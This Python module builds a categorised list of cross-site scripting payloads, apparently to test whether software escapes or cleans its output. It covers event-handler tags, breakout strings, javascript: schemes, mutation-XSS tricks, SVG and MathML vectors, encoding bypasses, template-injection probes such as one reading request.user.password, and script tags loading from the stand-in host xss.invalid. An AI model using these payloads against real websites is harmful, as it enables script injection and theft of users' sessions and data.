# ruff: noqa: E501
"""Texts that would run a script where they are not escaped or cleaned, by kind. Each calls `alert`."""

from itertools import chain, product

RUN = "alert(1)"
ELEMENTS = (
    "<img src=x onerror={run}>", "<svg onload={run}>", "<body onload={run}>", "<video src=x onerror={run}>", "<audio src=x onerror={run}>",
    "<details open ontoggle={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<marquee onstart={run}>",
    "<textarea autofocus onfocus={run}>", "<iframe onload={run}>", "<object data=x onerror={run}>", "<button autofocus onfocus={run}>",
    "<style onload={run}></style>", "<link rel=stylesheet href=x onerror={run}>", "<a tabindex=1 autofocus onfocus={run}>x</a>",
    "<p contenteditable autofocus onfocus={run}>", "<embed src=x onload={run}>", "<meta http-equiv=refresh content=0;javascript:{run}>",
    "<base href=javascript:{run}//>", "<template><img src=x onerror={run}></template>", "<dialog open onfocus={run} tabindex=0 autofocus>",
    "<xss style=animation:x onanimationstart={run}>", "<script>{run}</script>", "<script src=//xss.invalid/x.js></script>",
    "<script src=data:,{run}></script>", "<script type=module>{run}</script>", "<iframe srcdoc='<script>{run}</script>'>",
)  # fmt: skip
SPELLINGS = (
    lambda text: text,
    lambda text: text.upper().replace("ALERT", "alert"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace("<", "<<", 1),
)
BREAKOUTS = (
    '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</noscript>", "</template>", "</select>", "</option>",
    "</svg>", "</a>", "</time>", "</td></table>", "*/", "\\x3e",
)  # fmt: skip
HANDLERS = ("onmouseover", "onfocus", "onclick", "onpointerenter", "ontransitionend", "onbeforetoggle", "style", "formaction")
SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", " javascript:{run}", "&#106;avascript:{run}", "javascript&colon;{run}",
    "&#x6A&#x61vascript:{run}", "javascript://%0a{run}", "data:text/html,<script>{run}</script>", "vbscript:{run}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "view-source:javascript:{run}", "feed:javascript:{run}",
)  # fmt: skip
PLACES = ('<a href="{}">x</a>', '<form action="{}"><button>x</button></form>', '<iframe src="{}"></iframe>', "{}")
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={run}>">', '<svg></p><style><a id="</style><img src=x onerror={run}>">',
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></table></math>", "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<noembed><img src=x onerror={run}></noembed>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>", "<select><template><img src=x onerror={run}></template></select>",
    "<svg><![CDATA[</svg><img src=x onerror={run}>]]>", "<!--><img src=x onerror={run}>-->", "<a/href='x'/onmouseover={run}>x</a>",
    "<table><a href=x><td><img src=x onerror={run}>", "<img src='1' alt='`><img src=x onerror={run}>'>", "<p><svg><desc><b onclick={run}>",
)  # fmt: skip
DRAWINGS = (
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><set onbegin={run} attributeName=x>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,{run}></svg>",
    "<svg><foreignObject><iframe src=javascript:{run}></foreignObject></svg>", "<svg><image href=x onerror={run}></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>", "<svg><style>@import'javascript:{run}';</style></svg>",
    "<math href=javascript:{run}>x</math>", "<svg><animate attributeName=href values=javascript:{run} /><a>x</a></svg>",
)  # fmt: skip
EXPRESSIONS = (
    "{{{{ 7*7 }}}}", "{{% debug %}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "{{{{constructor.constructor('{run}')()}}}}",
    "[[{run}]]", "{{{{ request.user.password }}}}", "{{% include 'admin/base.html' %}}", "{{# #}}<script>{run}</script>",
)  # fmt: skip
ENCODINGS = (
    "%3Cscript%3E{run}%3C/script%3E", "&lt;script&gt;{run}&lt;/script&gt;", "\\u003cscript\\u003e{run}", "\\x3cimg src=x onerror={run}\\x3e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\uff1cscript\uff1e{run}\uff1c/script\uff1e", "&amp;lt;img src=x onerror={run}&amp;gt;",
    "%253Cscript%253E{run}", "&#60;script&#62;{run}&#60;/script&#62;", "<scr<script>ipt>{run}</scr</script>ipt>", "<\u0130mg src=x onerror={run}>",
)  # fmt: skip
DATA = (
    "</script><script>{run}</script>", "<!--<script>{run}", '";{run};//', "';{run};//", '\\";{run}//', "'-{run}-'", "\u2028{run}",
    '"}}]}}</script><svg onload={run}>', "`-{run}-`", '{{"@type":"</script><img src=x onerror={run}>"}}',
)  # fmt: skip
STYLES = (
    "</style><script>{run}</script>", "expression({run})", "url(javascript:{run})", "@import 'javascript:{run}';",
    "}}*{{background:url(//xss.invalid/)}}", "<p style=\"background:url('javascript:{run}')\">", "<style>@import '//xss.invalid/';</style>",
)  # fmt: skip


def payloads_by_kind() -> dict[str, list[str]]:
    attributes = [f"{quote} {name}={quote or 'x'}{RUN}" for quote, name in product(('"', "'", "`"), HANDLERS)]
    return {
        "element": list(dict.fromkeys(spell(text.format(run=RUN)) for text, spell in product(ELEMENTS, SPELLINGS))),
        "breakout": [mark + text.format(run=RUN) for mark, text in product(BREAKOUTS, (ELEMENTS[0], ELEMENTS[-5]))],
        "attribute": attributes,
        "scheme": [place.format(scheme.format(run=RUN)) for place, scheme in product(PLACES, SCHEMES)],
        "mutation": [text.format(run=RUN) for text in MUTATIONS],
        "drawing": [text.format(run=RUN) for text in DRAWINGS],
        "expression": [text.format(run=RUN) for text in EXPRESSIONS],
        "encoding": [text.format(run=RUN) for text in ENCODINGS],
        "data": [text.format(run=RUN) for text in DATA],
        "style": [text.format(run=RUN) for text in STYLES],
    }


def every_payload() -> list[str]:
    """In turn one of each kind, so that neighbours are of different kinds."""
    kinds = payloads_by_kind().values()
    longest = max(map(len, kinds))
    return list(dict.fromkeys(chain.from_iterable([kind[turn] for kind in kinds if turn < len(kind)] for turn in range(longest))))


def few_payloads() -> list[str]:
    """Three of each kind."""
    return [payload for kind in payloads_by_kind().values() for payload in kind[:: max(1, len(kind) // 3)][:3]]
